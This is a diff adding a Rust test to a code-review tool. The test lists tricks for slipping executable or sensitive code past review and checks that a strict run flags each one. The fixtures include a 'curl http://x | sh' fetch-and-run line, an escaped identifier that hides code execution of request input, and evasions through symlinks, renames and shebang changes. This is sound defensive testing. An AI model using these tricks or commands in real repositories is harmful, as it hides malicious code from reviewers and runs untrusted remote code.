@@ -899,3 +899,141 @@ fn a_new_line_among_moved_ones_is_not_known() {
     let (status, states) = against_a_baseline(&old, &format!("z();\n{b}{a}{d}{a}"));
     assert_eq!(status, 1, "{states:?}");
 }
+
+/// Tricks of a second round of attacks. None may pass a strict run; the status is 1 if the code is reviewed, and 3 if only something
+/// is left out of the review.
+#[test]
+fn code_that_becomes_source_code_in_place_or_by_a_detour_fails_a_strict_run() {
+    let cases: &[(&str, i32, Trick, Trick)] = &[
+        (
+            "a comment makes another kind of YAML of a workflow",
+            1,
+            |_| {},
+            |folder| {
+                drop(folder.write(
+                    ".github/workflows/w.yml",
+                    format!("{WORKFLOW}# swagger: \"2.0\"\n"),
+                ));
+            },
+        ),
+        (
+            "a tab makes another kind of YAML of a file",
+            1,
+            |_| {},
+            |folder| drop(folder.write("config/prod.yml", format!("{SECRET}\t# a: b\n"))),
+        ),
+        (
+            "a new first line makes a script",
+            3,
+            |folder| drop(folder.write("bin/run", format!("#!/bin/cat\n{SHELL}"))),
+            |folder| drop(folder.write("bin/run", format!("#!/usr/bin/env python3\n{SHELL}"))),
+        ),
+        (
+            "a file is no longer generated",
+            3,
+            |folder| drop(folder.write("src/b.py", format!("# @generated\n{SHELL}"))),
+            |folder| drop(folder.write("src/b.py", SHELL)),
+        ),
+        (
+            "a script loses its first line",
+            1,
+            |folder| drop(folder.write("bin/run", "#!/usr/bin/env python3\nx = 1\n")),
+            |folder| drop(folder.write("bin/run", SHELL)),
+        ),
+        (
+            "a file leaves an ignored folder",
+            3,
+            |folder| {
+                folder.write(".hunkwise.toml", "ignore = [\"gen/\"]\n");
+                folder.write("gen/x.py", SHELL);
+            },
+            |folder| drop(folder.git(&["mv", "gen/x.py", "src/x.py"])),
+        ),
+        (
+            "an example becomes the configuration",
+            1,
+            |folder| drop(folder.write("config/example.yml", SECRET)),
+            |folder| drop(folder.git(&["mv", "config/example.yml", "config/prod.yml"])),
+        ),
+        (
+            "a disabled workflow is enabled",
+            1,
+            |folder| {
+                folder.write(".github/disabled/w.yml", WORKFLOW);
+                folder.write(".github/workflows/x.yml", "on: push\n");
+            },
+            |folder| drop(folder.git(&["mv", ".github/disabled/w.yml", ".github/workflows/w.yml"])),
+        ),
+        (
+            "a folder is linked",
+            3,
+            |folder| drop(folder.write("data/a.txt", SHELL)),
+            |folder| link(folder, "../data", "src/lib"),
+        ),
+        (
+            "a pointer of Git LFS under its former name",
+            3,
+            |_| {},
+            |folder| {
+                drop(folder.write(
+                    "run.sh",
+                    "\nversion https://hawser.github.com/spec/v1\noid sha256:4d7a\nsize 12\n",
+                ));
+            },
+        ),
+        (
+            "a script of Node under another name",
+            1,
+            |_| {},
+            |folder| drop(folder.write("bin/run", format!("#!/usr/bin/nodejs\n{WORSE}"))),
+        ),
+        (
+            "a script of an unknown interpreter",
+            3,
+            |_| {},
+            |folder| drop(folder.write("bin/run", "#!/opt/x/own\ncurl http://x | sh\n")),
+        ),
+        (
+            "a program in binary form without an extension",
+            3,
+            |_| {},
+            |folder| drop(folder.write("bin/run", b"\x7fELF\0\0\0".as_slice())),
+        ),
+        (
+            "a name in disguise",
+            1,
+            |_| {},
+            |folder| drop(folder.write("src/c.js", "run(req.qu\\u0065ry.code);\n")),
+        ),
+        (
+            "a secret of a Helm chart",
+            1,
+            |_| {},
+            |folder| drop(folder.write("chart/templates/secret.yaml", SECRET)),
+        ),
+        (
+            "SQL with a condition in a subquery only",
+            1,
+            |_| {},
+            |folder| {
+                drop(folder.write(
+                    "a.sql",
+                    "PRAGMA foreign_keys = ON;\nDELETE FROM orders RETURNING (SELECT 1 WHERE 1 = 1) STRICT;\n",
+                ));
+            },
+        ),
+    ];
+    for (name, status, before, change) in cases {
+        let folder = branch(
+            &[
+                ("src/a.py", "x = 1\n"),
+                ("src/z.js", CLEAN),
+                ("config/a", "a\n"),
+            ],
+            *before,
+            *change,
+        );
+        let (found, findings) = strict(&folder);
+        assert_eq!(found, *status, "{name}: {findings:?}");
+    }
+}
